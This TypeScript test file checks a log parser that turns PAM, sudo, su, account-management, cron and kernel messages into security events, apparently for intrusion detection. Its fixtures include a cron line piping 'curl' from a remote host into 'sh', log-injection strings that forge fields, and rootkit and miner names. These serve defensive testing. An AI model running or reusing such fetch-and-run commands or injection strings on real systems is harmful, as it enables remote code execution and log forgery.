import { describe, expect, test } from 'bun:test';
import type { EventDetail } from '../../../model/facts/event.ts';
import { messagesOf } from './table.ts';

const read = (program: string, text: string): EventDetail | undefined =>
  messagesOf(program).read({ program, pid: 9, text });

describe('PAM', () => {
  test('sessions, by the service that PAM was started for', () => {
    const root = 'session opened for user root(uid=0) by (uid=0)';
    expect(read('sshd', `pam_unix(sshd:session): ${root}`)).toMatchObject({
      what: 'session',
      phase: 'opened',
      service: 'sshd',
      account: 'root',
      pid: 9,
    });
    expect(read('su', 'pam_unix(su-l:session): session closed for user ada')).toMatchObject({
      phase: 'closed',
    });
    expect(read('vsftpd', `pam_unix(vsftpd:session): ${root}`)).toMatchObject({ service: 'vsftpd' });
    expect(read('systemd', `pam_systemd(login:session): ${root}`)).toBeUndefined();
  });

  test('failures: those of sshd are left to sshd, others are logins or attempts to become somebody', () => {
    const failure = 'authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.7  user=root';
    expect(read('sshd', `pam_unix(sshd:auth): ${failure}`)).toBeUndefined();
    expect(read('vsftpd', `pam_unix(vsftpd:auth): ${failure}`)).toMatchObject({
      what: 'login',
      outcome: 'failed',
      from: '192.0.2.7',
      account: 'root',
    });
    expect(
      read(
        'su',
        'pam_unix(su:auth): authentication failure; logname=ada uid=1000 euid=0 tty=pts/0 ruser=ada rhost=  user=root',
      ),
    ).toMatchObject({ what: 'privilege', program: 'su', outcome: 'failed', account: 'ada', as: 'root' });
  });

  test('passwords that were changed; a name that is a message stays a name', () => {
    expect(read('passwd', 'pam_unix(passwd:chauthtok): password changed for root')).toMatchObject({
      what: 'account',
      action: 'password-changed',
      account: 'root',
    });
    const forged = 'x rhost=203.0.113.1  user=root';
    expect(
      read(
        'vsftpd',
        `pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=${forged} rhost=192.0.2.7`,
      ),
    ).toMatchObject({ account: expect.any(String) });
    expect(read('x', 'pam_unix(: ')).toBeUndefined();
  });
});

describe('somebody else’s rights', () => {
  test('sudo, with what went wrong in front', () => {
    expect(
      read('sudo', '     ada : TTY=pts/0 ; PWD=/home/ada ; USER=root ; COMMAND=/usr/bin/apt update'),
    ).toMatchObject({
      what: 'privilege',
      program: 'sudo',
      outcome: 'accepted',
      account: 'ada',
      as: 'root',
      command: '/usr/bin/apt update',
      folder: '/home/ada',
      terminal: 'pts/0',
    });
    expect(
      read('sudo', 'ada : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh'),
    ).toMatchObject({ outcome: 'failed' });
    // Whoever names a folder so cannot become somebody else in the log.
    const forged = 'ada : PWD=/tmp/x ; USER=root ; COMMAND=/bin/bash ; USER=bob ; COMMAND=/usr/bin/id';
    expect(read('sudo', forged)).toBeUndefined();
    const script = `sh -c '${'x'.repeat(900)} http://192.0.2.9/a'`;
    expect(read('sudo', `ada : PWD=/ ; USER=root ; COMMAND=${script}`)).toMatchObject({ command: script });
  });

  test('su in both forms, doas and pkexec', () => {
    expect(read('su', '(to root) ada on pts/0')).toMatchObject({
      account: 'ada',
      as: 'root',
      outcome: 'accepted',
    });
    expect(read('su', 'FAILED SU (to root) ada on pts/0')).toMatchObject({ outcome: 'failed' });
    expect(read('su', '+ pts/0 ada:root')).toMatchObject({ account: 'ada', as: 'root' });
    expect(read('su', '- pts/0 ada:root')).toMatchObject({ outcome: 'failed' });
    expect(read('doas', 'ada ran command sh -c id as root from /home/ada')).toMatchObject({
      command: 'sh -c id',
      as: 'root',
    });
    expect(
      read(
        'pkexec',
        'ada: Executing command [USER=root] [TTY=unknown] [CWD=/home/ada] [COMMAND=/usr/bin/id]',
      ),
    ).toMatchObject({ program: 'pkexec', command: '/usr/bin/id' });
  });
});

describe('accounts', () => {
  test('that are added, with uid and home', () => {
    expect(
      read(
        'useradd',
        'new user: name=hilde, UID=0, GID=0, home=/home/hilde, shell=/bin/bash, from=/dev/pts/1',
      ),
    ).toMatchObject({
      what: 'account',
      action: 'added',
      account: 'hilde',
      uid: 0,
      home: '/home/hilde',
      shell: '/bin/bash',
    });
    expect(read('useradd', 'new group: name=hilde, GID=1001')).toMatchObject({
      action: 'group-added',
      group: 'hilde',
    });
  });

  test('that are changed, joined, locked and removed', () => {
    expect(read('usermod', "change user 'bin' shell from '/usr/sbin/nologin' to '/bin/bash'")).toMatchObject({
      action: 'changed',
      account: 'bin',
      shell: '/bin/bash',
    });
    expect(read('usermod', "change user 'x' UID from '1001' to '0'")).toMatchObject({ uid: 0 });
    expect(read('usermod', "add 'x' to group 'sudo'")).toMatchObject({
      action: 'member-added',
      group: 'sudo',
    });
    expect(read('gpasswd', 'user x added by root to group docker')).toMatchObject({
      by: 'root',
      group: 'docker',
    });
    expect(read('usermod', "lock user 'ada' password")).toMatchObject({ action: 'locked' });
    expect(read('usermod', "unlock user 'ada' password")).toMatchObject({ action: 'unlocked' });
    expect(read('userdel', "delete user 'x'")).toMatchObject({ action: 'removed' });
    expect(read('passwd', 'password for ada changed by root')).toMatchObject({
      by: 'root',
      action: 'password-changed',
    });
    expect(read('useradd', 'failed adding user x, exit code: 9')).toBeUndefined();
  });
});

describe('schedulers', () => {
  test('what ran, by Vixie cron, cronie, BusyBox, anacron and at', () => {
    expect(read('CRON', '(root) CMD (curl -s http://192.0.2.9/x | sh)')).toMatchObject({
      what: 'job',
      scheduler: 'cron',
      account: 'root',
      command: 'curl -s http://192.0.2.9/x | sh',
    });
    expect(read('crond', '(root) CMD ([77] run-parts /etc/cron.hourly)')).toMatchObject({
      command: 'run-parts /etc/cron.hourly',
    });
    expect(read('CROND', '(root) CMD (run-parts /etc/cron.hourly)')).toMatchObject({
      what: 'job',
      account: 'root',
    });
    expect(read('CROND', '(root) CMDEND (true)')).toBeUndefined();
    expect(read('crond', 'USER root pid  12 cmd run-parts /etc/periodic/15min')).toMatchObject({
      account: 'root',
    });
    expect(read('anacron', "Job `cron.daily' started")).toMatchObject({
      scheduler: 'anacron',
      command: 'cron.daily',
    });
    expect(read('atd', "Starting job 3 (a00003019a) for user 'root' (0)")).toMatchObject({ scheduler: 'at' });
  });

  test('tables that were changed: by whom, and whose', () => {
    expect(read('crontab', '(root) REPLACE (ada)')).toMatchObject({
      what: 'table',
      action: 'replaced',
      by: 'root',
      table: 'ada',
    });
    expect(read('crontab', '(root) BEGIN EDIT (root)')).toMatchObject({ action: 'edited' });
    expect(read('cron', '(*system*x) RELOAD (/etc/cron.d/x)')).toMatchObject({
      action: 'reloaded',
      table: '/etc/cron.d/x',
      by: '',
    });
    expect(read('cron', '(root) RELOAD (crontabs/root)')).toMatchObject({ table: 'root' });
    expect(read('cron', '(CRON) INFO (Running @reboot jobs)')).toBeUndefined();
  });

  test('a command with parentheses and another entry in it is one command', () => {
    expect(read('CRON', '(root) CMD (echo ) (ada) REPLACE (root))')).toMatchObject({
      what: 'job',
      command: 'echo ) (ada) REPLACE (root)',
    });
  });
});

describe('the kernel and systemd', () => {
  test('taints, crashes, processes that took too much, writes to model-specific registers', () => {
    expect(
      read('kernel', '[   12.345678] diamorphine: loading out-of-tree module taints kernel.'),
    ).toMatchObject({ what: 'kernel', action: 'tainted', subject: 'diamorphine' });
    expect(
      read(
        'kernel',
        'x: module verification failed: signature and/or required key missing - tainting kernel',
      ),
    ).toMatchObject({ action: 'tainted', subject: 'x' });
    expect(read('kernel', '[1.2] nginx[77]: segfault at 0 ip 00 sp 00 error 4 in nginx')).toMatchObject({
      action: 'segfault',
      pid: 77,
    });
    expect(
      read(
        'kernel',
        '[9.9] Out of memory: Killed process 4711 (kdevtmpfsi) total-vm:2549284kB, anon-rss:2400000kB',
      ),
    ).toMatchObject({ action: 'out-of-memory', subject: 'kdevtmpfsi', pid: 4711, memory: 2_610_466_816 });
    expect(read('kernel', '[9.9] msr: Write to unrecognized MSR 0x1a4 by wrmsr (pid: 12).')).toMatchObject({
      action: 'msr-write',
      subject: 'wrmsr',
    });
    expect(read('kernel', '[9.9] IPv6: ADDRCONF(NETDEV_UP): eth0')).toBeUndefined();
  });

  test('sessions, boots, clocks and logs', () => {
    expect(read('systemd-logind', 'New session 5 of user ada.')).toMatchObject({
      what: 'session',
      account: 'ada',
    });
    expect(read('systemd', 'Startup finished in 2.1s (kernel) + 3.2s (userspace) = 5.3s.')).toMatchObject({
      action: 'booted',
    });
    expect(read('systemd', 'Time has been changed')).toMatchObject({ action: 'clock-set' });
    const origin = '[origin software="rsyslogd" swVersion="8" x-pid="1" x-info="https://www.rsyslog.com"]';
    expect(read('rsyslogd', `${origin} start`)).toMatchObject({ what: 'host', action: 'log-started' });
    expect(read('rsyslogd', `${origin} rsyslogd was HUPed`)).toMatchObject({ action: 'log-rotated' });
  });

  test('whatever is said, nothing throws', () => {
    const noise = [
      '',
      '(',
      '()',
      '(a) CMD (',
      'pam_',
      'pam_unix(a:b): session opened for user ',
      '\xff\0',
      'a'.repeat(65_536),
    ];
    for (const program of [
      'CRON',
      'sudo',
      'su',
      'kernel',
      'useradd',
      'systemd',
      'sshd',
      'rsyslogd',
      '__proto__',
      'x',
    ]) {
      for (const text of noise) expect(() => read(program, text)).not.toThrow();
    }
  });
});
